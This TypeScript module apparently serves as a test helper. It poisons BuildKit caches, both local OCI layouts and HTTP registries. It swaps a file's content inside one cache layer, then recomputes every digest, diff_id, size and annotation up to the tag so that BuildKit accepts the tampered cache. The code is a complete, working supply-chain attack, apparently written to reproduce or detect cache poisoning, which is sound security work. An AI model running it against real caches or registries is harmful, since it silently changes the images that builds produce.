import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { gunzipSync, gzipSync } from 'node:zlib';
import { extract, type Header, pack } from 'tar-stream';
import { CACHE_CONFIG_MEDIA_TYPE } from '../../src/inspection/cache-config.js';
import { INDEX_MEDIA_TYPES, MANIFEST_MEDIA_TYPES } from '../../src/inspection/oci-types.js';

/**
 * Tampers with a real BuildKit cache so that BuildKit imports it without complaint but builds another image:
 * the layer that holds `poison.path` is replaced by a valid layer that holds the same path (same mode, uid,
 * gid, every other entry kept) with `poison.content`. Everything that names the layer is made to agree
 * with the new blob: every descriptor's digest and size and its `containerd.io/uncompressed` annotation
 * (the diff_id), the cache config's `layers[].blob` and the per-layer `annotations` some exporters write
 * there (gha, s3, azblob: mediaType, diffID, size), then the digests of every document above them, up to
 * the tag. Both layouts BuildKit writes are handled: an index that lists the layers and the config blob, and
 * an image manifest whose config is the cache config (newer releases), nested as deep as the cache has them.
 * The old blobs are left where they are, unreferenced.
 */

export interface Poison {
  /** A path in the image, e.g. `repro.txt`: the layer whose tarball holds it as a regular file is replaced. */
  path: string;
  /** The bytes the path holds in the new layer. */
  content: string;
}

export interface PoisonResult {
  oldBlob: string;
  newBlob: string;
  /** The uncompressed digests (diff_ids) of the old and the new layer. */
  oldDiffId: string;
  newDiffId: string;
}

/** A cache exported with `type=registry,ref=ADDRESS/REPOSITORY:TAG`, served over plain HTTP. */
export interface RegistryCache {
  /** host:port, e.g. 127.0.0.1:5000. */
  address: string;
  repository: string;
  tag: string;
}

export { CACHE_CONFIG_MEDIA_TYPE };
const UNCOMPRESSED = 'containerd.io/uncompressed';
const DOCUMENT_TYPES: readonly string[] = [...INDEX_MEDIA_TYPES, ...MANIFEST_MEDIA_TYPES];
/** How deep documents may nest (index.json → index → manifest is the deepest BuildKit writes). */
const MAX_DEPTH = 4;

interface Descriptor {
  mediaType: string;
  digest: string;
  size: number;
  annotations?: Record<string, string>;
}

/** An index or a manifest, with whatever else it holds kept as it is. */
interface CacheDocument {
  mediaType?: string;
  manifests?: Descriptor[];
  layers?: Descriptor[];
  config?: Descriptor;
}

/** Where a cache's documents and blobs are read and written. */
interface CacheStore {
  where: string;
  root(): Promise<CacheDocument>;
  /** A blob or a document by its descriptor, checked against its digest and size. */
  read(descriptor: Descriptor): Promise<Buffer>;
  /** A new blob (layer or cache config), or a new document when `documentType` is given. */
  write(bytes: Buffer, digest: string, documentType?: string): Promise<void>;
  /** The root document again, in place of the old one (index.json, or the manifest under the tag). */
  writeRoot(document: CacheDocument): Promise<void>;
}

/** Poisons a cache exported with `--export-cache type=local,dest=DIR` (an OCI layout folder). */
export function poisonLocalCache(dir: string, poison: Poison): Promise<PoisonResult> {
  return poisonCache(localStore(dir), poison);
}

/** Poisons a cache exported with `--export-cache type=registry,ref=ADDRESS/REPOSITORY:TAG`. */
export function poisonRegistryCache(cache: RegistryCache, poison: Poison): Promise<PoisonResult> {
  return poisonCache(registryStore(cache), poison);
}

async function poisonCache(store: CacheStore, poison: Poison): Promise<PoisonResult> {
  const wanted = archivePath(poison.path);
  if (!wanted) throw new Error(`poison path "${poison.path}" names no file`);
  const root = await store.root();
  const layers = await layerDescriptors(store, root);
  const holders: { layer: Descriptor; tar: Buffer; gzip: boolean }[] = [];
  const unreadable: string[] = [];
  for (const layer of layers) {
    const blob = await store.read(layer);
    const tar = decompress(blob);
    if (!tar) {
      unreadable.push(`${layer.digest} (${layer.mediaType})`);
      continue;
    }
    if (await holds(tar, wanted)) holders.push({ layer, tar, gzip: tar !== blob });
  }
  const holder = holders[0];
  if (!holder) {
    const skipped = unreadable.length ? `; not read (neither gzip nor tar): ${unreadable.join(', ')}` : '';
    throw new Error(
      `no layer of the cache at ${store.where} holds ${wanted} (looked in ${layers.length - unreadable.length} layers${skipped})`,
    );
  }
  if (holders.length > 1) {
    throw new Error(
      `${holders.length} layers of the cache at ${store.where} hold ${wanted}: ${holders.map((h) => h.layer.digest).join(', ')}; which to poison is ambiguous`,
    );
  }
  return replaceLayer(store, root, holder, wanted, Buffer.from(poison.content));
}

async function replaceLayer(
  store: CacheStore,
  root: CacheDocument,
  holder: { layer: Descriptor; tar: Buffer; gzip: boolean },
  wanted: string,
  content: Buffer,
): Promise<PoisonResult> {
  const oldBlob = holder.layer.digest;
  const oldDiffId = sha256(holder.tar);
  const recorded = holder.layer.annotations?.[UNCOMPRESSED];
  if (recorded && recorded !== oldDiffId) {
    throw new Error(
      `layer ${holder.layer.digest} of the cache at ${store.where} says its diff_id is ${recorded}, its content has ${oldDiffId}: the cache is not consistent to begin with`,
    );
  }
  const tar = await withContent(holder.tar, wanted, content);
  const newDiffId = sha256(tar);
  if (newDiffId === oldDiffId) throw new Error(`${wanted} already holds that content: nothing to poison`);
  const blob = holder.gzip ? gzipSync(tar) : tar;
  const layer = { digest: sha256(blob), size: blob.length, diffId: newDiffId };
  await store.write(blob, layer.digest);

  const rewrite = new Rewrite(store, oldBlob, layer);
  const newRoot = await rewrite.document(root, 0);
  if (rewrite.descriptors === 0 || rewrite.configLayers === 0) {
    throw new Error(
      `layer ${oldBlob} is named by ${rewrite.descriptors} descriptors and ${rewrite.configLayers} entries of a ${CACHE_CONFIG_MEDIA_TYPE} blob in the cache at ${store.where}: not a cache this can poison`,
    );
  }
  if (newRoot) await store.writeRoot(newRoot);
  return { oldBlob, newBlob: layer.digest, oldDiffId, newDiffId };
}

/** Every distinct layer blob the documents list (documents and cache configs aside), in the order found. */
async function layerDescriptors(store: CacheStore, root: CacheDocument): Promise<Descriptor[]> {
  const found = new Map<string, Descriptor>();
  const visit = async (document: CacheDocument, depth: number): Promise<void> => {
    for (const descriptor of [...(document.manifests ?? []), ...(document.layers ?? [])]) {
      if (DOCUMENT_TYPES.includes(descriptor.mediaType)) {
        if (depth >= MAX_DEPTH) throw new Error(`documents nest deeper than ${MAX_DEPTH} in ${store.where}`);
        await visit(parseDocument(await store.read(descriptor)), depth + 1);
      } else if (descriptor.mediaType !== CACHE_CONFIG_MEDIA_TYPE && !found.has(descriptor.digest)) {
        // A copy: the rewrite changes the documents' descriptors in place.
        found.set(descriptor.digest, structuredClone(descriptor));
      }
    }
  };
  await visit(root, 0);
  return [...found.values()];
}

/**
 * Rewrites the documents from the root down: the old layer's descriptors get the new blob, the cache configs
 * the new blob in `layers[]`, and each document that changed is written again under its new digest. A
 * document or config met twice is rewritten once.
 */
class Rewrite {
  descriptors = 0;
  configLayers = 0;
  private readonly done = new Map<string, Promise<{ digest: string; size: number } | undefined>>();

  constructor(
    private readonly store: CacheStore,
    private readonly oldBlob: string,
    private readonly layer: { digest: string; size: number; diffId: string },
  ) {}

  /** The document rewritten, or undefined when nothing in it (or under it) names the old layer. */
  async document(document: CacheDocument, depth: number): Promise<CacheDocument | undefined> {
    let changed = false;
    const slots = [...(document.manifests ?? []), ...(document.layers ?? [])];
    if (document.config) slots.push(document.config);
    for (const descriptor of slots) {
      if (descriptor.digest === this.oldBlob) {
        descriptor.digest = this.layer.digest;
        descriptor.size = this.layer.size;
        if (descriptor.annotations?.[UNCOMPRESSED]) descriptor.annotations[UNCOMPRESSED] = this.layer.diffId;
        this.descriptors += 1;
        changed = true;
        continue;
      }
      const isDocument = DOCUMENT_TYPES.includes(descriptor.mediaType);
      if (!isDocument && descriptor.mediaType !== CACHE_CONFIG_MEDIA_TYPE) continue;
      if (isDocument && depth >= MAX_DEPTH) throw new Error(`documents nest deeper than ${MAX_DEPTH}`);
      let next = this.done.get(descriptor.digest);
      if (!next) {
        next = isDocument ? this.child(descriptor, depth + 1) : this.cacheConfig(descriptor);
        this.done.set(descriptor.digest, next);
      }
      const written = await next;
      if (written) {
        descriptor.digest = written.digest;
        descriptor.size = written.size;
        changed = true;
      }
    }
    return changed ? document : undefined;
  }

  private async child(descriptor: Descriptor, depth: number) {
    const rewritten = await this.document(parseDocument(await this.store.read(descriptor)), depth);
    if (!rewritten) return undefined;
    const bytes = Buffer.from(JSON.stringify(rewritten));
    const digest = sha256(bytes);
    await this.store.write(bytes, digest, descriptor.mediaType);
    return { digest, size: bytes.length };
  }

  private async cacheConfig(descriptor: Descriptor) {
    const config = JSON.parse((await this.store.read(descriptor)).toString('utf8')) as {
      layers?: {
        blob?: string;
        annotations?: { mediaType?: string; diffID?: string; size?: number };
      }[];
    };
    let count = 0;
    for (const entry of config.layers ?? []) {
      if (entry.blob !== this.oldBlob) continue;
      entry.blob = this.layer.digest;
      // gha, s3 and azblob caches describe each layer here too: the importer builds its descriptor from it.
      if (entry.annotations) {
        if (entry.annotations.diffID !== undefined) entry.annotations.diffID = this.layer.diffId;
        if (entry.annotations.size !== undefined) entry.annotations.size = this.layer.size;
      }
      count += 1;
    }
    if (count === 0) return undefined;
    this.configLayers += count;
    const bytes = Buffer.from(JSON.stringify(config));
    const digest = sha256(bytes);
    await this.store.write(bytes, digest);
    return { digest, size: bytes.length };
  }
}

/** The layer's tar: gunzipped when it is gzip, as it is when it is a tar, undefined otherwise (zstd…). */
function decompress(blob: Buffer): Buffer | undefined {
  if (blob[0] === 0x1f && blob[1] === 0x8b) return gunzipSync(blob);
  return blob.length >= 512 && blob.subarray(257, 262).toString('latin1') === 'ustar' ? blob : undefined;
}

export interface TarEntry {
  header: Header;
  body: Buffer;
}

/** Every entry of a tarball with its bytes. */
export async function readTar(tar: Buffer): Promise<TarEntry[]> {
  const entries: TarEntry[] = [];
  const reader = extract();
  reader.on('entry', (header, stream, next) => {
    const chunks: Buffer[] = [];
    stream.on('data', (chunk: unknown) => {
      chunks.push(chunk as Buffer);
    });
    stream.on('end', () => {
      entries.push({ header, body: Buffer.concat(chunks) });
      next();
    });
  });
  await pipeline(Readable.from([tar]), reader);
  return entries;
}

/** Whether the tar holds `wanted` as a regular file; a throw when it holds it as something else. */
async function holds(tar: Buffer, wanted: string): Promise<boolean> {
  const entry = (await readTar(tar)).filter((e) => archivePath(e.header.name) === wanted).pop();
  if (!entry) return false;
  if (!isRegularFile(entry.header)) {
    throw new Error(
      `${wanted} is a ${entry.header.type ?? 'entry'} in a layer of the cache, not a regular file`,
    );
  }
  return true;
}

/** The same tar, every entry kept, `wanted` holding `content` (its mode, owner and times unchanged). */
async function withContent(tar: Buffer, wanted: string, content: Buffer): Promise<Buffer> {
  const entries = await readTar(tar);
  const archive = pack();
  const chunks: Buffer[] = [];
  archive.on('data', (chunk: unknown) => {
    chunks.push(chunk as Buffer);
  });
  const ended = new Promise<void>((resolve, reject) => {
    archive.on('end', resolve);
    archive.on('error', reject);
  });
  for (const { header, body } of entries) {
    const target = archivePath(header.name) === wanted && isRegularFile(header);
    const pax = header.pax ? { ...(header.pax as Record<string, string>) } : undefined;
    if (pax) delete pax['size'];
    // pack() sets the size from the bytes it is given.
    const kept: Partial<Header> & Pick<Header, 'name'> = { ...header, pax };
    delete kept.size;
    archive.entry(kept, target ? content : body);
  }
  archive.finalize();
  await ended;
  return Buffer.concat(chunks);
}

function isRegularFile(header: Header): boolean {
  return header.type === 'file' || header.type === 'contiguous-file' || !header.type;
}

/** A path as layer tarballs name it: no ./ or / in front, none behind. */
function archivePath(name: string): string {
  return path.posix
    .normalize(name.replace(/^\.?\/+/, ''))
    .replace(/\/+$/, '')
    .replace(/^\.$/, '');
}

function sha256(bytes: Buffer): string {
  return `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
}

function parseDocument(bytes: Buffer): CacheDocument {
  return JSON.parse(bytes.toString('utf8')) as CacheDocument;
}

function checked(bytes: Buffer, descriptor: Descriptor, where: string): Buffer {
  const digest = sha256(bytes);
  if (digest !== descriptor.digest || bytes.length !== descriptor.size) {
    throw new Error(
      `blob ${descriptor.digest} (${descriptor.size} B) in ${where} has digest ${digest} (${bytes.length} B)`,
    );
  }
  return bytes;
}

function localStore(dir: string): CacheStore {
  const blobPath = (digest: string) => {
    const [algorithm, hex] = digest.split(':');
    if (algorithm !== 'sha256' || !hex || !/^[0-9a-f]{64}$/.test(hex)) {
      throw new Error(`unsupported digest ${digest} in ${dir}`);
    }
    return path.join(dir, 'blobs', 'sha256', hex);
  };
  const index = path.join(dir, 'index.json');
  return {
    where: dir,
    root: () => Promise.resolve(parseDocument(fs.readFileSync(index))),
    read: (d) => Promise.resolve(checked(fs.readFileSync(blobPath(d.digest)), d, dir)),
    write: (bytes, digest) => {
      replaceFile(blobPath(digest), bytes);
      return Promise.resolve();
    },
    writeRoot: (document) => {
      replaceFile(index, Buffer.from(JSON.stringify(document)));
      return Promise.resolve();
    },
  };
}

/** Written beside and renamed over: a reader never sees half a file. */
function replaceFile(file: string, bytes: Buffer): void {
  const temporary = `${file}.poison-${process.pid}`;
  fs.writeFileSync(temporary, bytes);
  fs.renameSync(temporary, file);
}

function registryStore(cache: RegistryCache): CacheStore {
  const where = `${cache.address}/${cache.repository}:${cache.tag}`;
  const base = `http://${cache.address}/v2/${cache.repository}`;
  let rootType = '';
  const call = async (method: string, url: string, status: number, init: RequestInit = {}) => {
    const response = await fetch(url, { ...init, method });
    if (response.status === status) return response;
    const body = await response.text().catch(() => '');
    throw new Error(`${method} ${url}: HTTP ${response.status} ${body.slice(0, 500)}`);
  };
  const putManifest = async (reference: string, bytes: Buffer, mediaType: string) => {
    await call('PUT', `${base}/manifests/${reference}`, 201, {
      body: new Uint8Array(bytes),
      headers: { 'Content-Type': mediaType },
    });
  };
  return {
    where,
    root: async () => {
      const response = await call('GET', `${base}/manifests/${cache.tag}`, 200, {
        headers: { Accept: DOCUMENT_TYPES.join(', ') },
      });
      const document = parseDocument(Buffer.from(await response.arrayBuffer()));
      rootType = document.mediaType ?? response.headers.get('content-type') ?? '';
      if (!DOCUMENT_TYPES.includes(rootType))
        throw new Error(`${where} is a ${rootType}, not a cache manifest`);
      return document;
    },
    read: async (d) => {
      const isDocument = DOCUMENT_TYPES.includes(d.mediaType);
      const url = `${base}/${isDocument ? 'manifests' : 'blobs'}/${d.digest}`;
      const response = await call('GET', url, 200, { headers: isDocument ? { Accept: d.mediaType } : {} });
      return checked(Buffer.from(await response.arrayBuffer()), d, where);
    },
    write: async (bytes, digest, documentType) => {
      if (documentType) return putManifest(digest, bytes, documentType);
      if ((await fetch(`${base}/blobs/${digest}`, { method: 'HEAD' })).status === 200) return;
      // A monolithic upload: POST opens it, one PUT with the digest closes it.
      const started = await call('POST', `${base}/blobs/uploads/`, 202);
      const location = started.headers.get('location');
      if (!location) throw new Error(`POST ${base}/blobs/uploads/ gave no Location`);
      const upload = new URL(location, `http://${cache.address}`);
      upload.searchParams.set('digest', digest);
      await call('PUT', upload.toString(), 201, {
        body: new Uint8Array(bytes),
        headers: { 'Content-Type': 'application/octet-stream' },
      });
    },
    writeRoot: (document) => putManifest(cache.tag, Buffer.from(JSON.stringify(document)), rootType),
  };
}
